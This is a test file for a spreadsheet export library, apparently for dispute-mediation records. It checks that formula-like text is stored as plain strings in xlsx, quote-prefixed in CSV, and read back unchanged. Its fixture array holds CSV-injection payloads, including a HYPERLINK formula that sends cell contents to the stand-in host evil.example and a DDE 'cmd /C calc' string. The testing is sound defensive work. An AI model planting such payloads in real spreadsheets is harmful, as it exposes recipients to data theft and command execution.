// OWASP "CSV injection": text beginning with = + - @, a tab or a carriage return never becomes a
// formula in an export, and comes back from either format as the text that was recorded.
import t from 'tap'
import { parse } from 'csv-parse/sync'
import { defaultLimits, readSpreadsheet, writeCsv, writeXlsx } from '../../src/spreadsheets/index.js'
import { entryBytes, readZipDirectory } from '../../src/spreadsheets/zip-reader.js'
import { craftZip, xlsxParts } from './zip-craft.js'
import { disputeColumns, loadWorkbook, sink } from './fixtures.js'

const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"点此")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''=twice quoted",
  '普通文本 = 没问题',
]
const records = hostile.map((title, i) => ({
  gridUnitCode: `TJ-0${i}`,
  title,
  category: 'land',
  source: 'hotline',
  reportedAt: '2025-03-31T07:30:00.000Z',
  parties: [{ name: '=1+2', role: 'applicant' }],
  mediator: title,
}))

async function exports() {
  const x = sink()
  await writeXlsx(x.out, disputeColumns, records, { sheetName: '台账' })
  const c = sink()
  await writeCsv(c.out, disputeColumns, records)
  return { xlsx: x.bytes(), csv: c.bytes() }
}

/** The worksheet XML exactly as written, inflated from the export's zip. */
async function writtenSheetXml(xlsx: Buffer): Promise<string> {
  const entry = readZipDirectory(xlsx, defaultLimits).get('xl/worksheets/sheet1.xml')!
  const chunks: Buffer[] = []
  for await (const chunk of entryBytes(xlsx, entry, { remaining: 1e8, limit: 1e8 })) chunks.push(chunk)
  return Buffer.concat(chunks).toString('utf8')
}

t.test('xlsx: formula-like text is a string cell, never a formula', async (t) => {
  const { xlsx } = await exports()
  const xml = await writtenSheetXml(xlsx)
  t.match(xml, /HYPERLINK/, 'the text is in the sheet')
  t.notMatch(xml, /<f[ >]/, 'and no cell has a formula element')
  t.match(xml, /<c r="B2"[^>]* t="(str|inlineStr|s)"/, 'the title cell is typed as a string')
  const sheet = (await loadWorkbook(xlsx)).worksheets[0]!
  hostile.forEach((text, i) => {
    const cell = sheet.getRow(i + 2).getCell(2)
    t.equal(cell.type, 3 /* ValueType.String */, `${JSON.stringify(text)} is a string cell`)
    t.equal(cell.formula, undefined, 'with no formula')
  })
  t.equal(sheet.getRow(2).getCell(2).value, hostile[0], 'shown exactly as recorded')
  t.equal(sheet.getRow(2).getCell(6).value, '=1+2（申请人）')
})

t.test('csv: formula-like fields are prefixed with a single quote', async (t) => {
  const { csv } = await exports()
  const rows = parse(csv.toString('utf8').slice(1)) as string[][]
  t.same(
    rows.slice(1).map((r) => r[1]),
    ["'" + hostile[0], "'" + hostile[1], "'-2+3", "'@SUM(1,2)", "'\t=1+1", "'\r=1+1", "''=already quoted", "'''=twice quoted", '普通文本 = 没问题'],
  )
  t.equal(rows[1]![5], "'=1+2（申请人）", 'a list cell is defused as a whole')
  t.equal(rows[1]![4], '2025-03-31 15:30', 'instants are not touched')
})

t.test('both formats read back as the recorded text', async (t) => {
  const { xlsx, csv } = await exports()
  const fromXlsx = await readSpreadsheet(xlsx, disputeColumns)
  const fromCsv = await readSpreadsheet(csv, disputeColumns)
  t.same(fromXlsx.errors, [])
  t.same(fromCsv.errors, [])
  // XML turns a carriage return into a line feed (XML 1.0 §2.11), so xlsx text keeps line breaks
  // as \n — the form Excel uses — and a leading \r comes back as a harmless \n.
  t.same(fromXlsx.rows.map((r) => r.values.title), hostile.map((h) => h.replace(/\r\n?/g, '\n')), 'xlsx')
  t.same(fromCsv.rows.map((r) => r.values.title), hostile, 'csv')
  t.same(fromCsv.rows.map((r) => r.values.parties), hostile.map(() => [{ name: '=1+2', role: 'applicant' }]))
})

t.test('a CSV opened in a spreadsheet and saved as xlsx keeps its quote as text, and still reads back', async (t) => {
  // Excel keeps the leading quote of a CSV field as part of the cell text; the reader takes it off.
  const header = disputeColumns.filter((c) => c.required).map((c) => c.header)
  const sheet =
    `<?xml version="1.0"?><worksheet xmlns="x"><sheetData>` +
    `<row r="1">${header.map((h, i) => `<c r="${String.fromCharCode(65 + i)}1" t="inlineStr"><is><t>${h}</t></is></c>`).join('')}</row>` +
    `<row r="2">${["TJ-01", "'=1+2", '土地', '热线', '2025-03-31', '张三（申请人）'].map((v, i) => `<c r="${String.fromCharCode(65 + i)}2" t="inlineStr"><is><t>${v}</t></is></c>`).join('')}</row>` +
    `</sheetData></worksheet>`
  const result = await readSpreadsheet(craftZip(xlsxParts({ 台账: sheet })), disputeColumns)
  t.equal(result.rows[0]!.values.title, '=1+2')
})
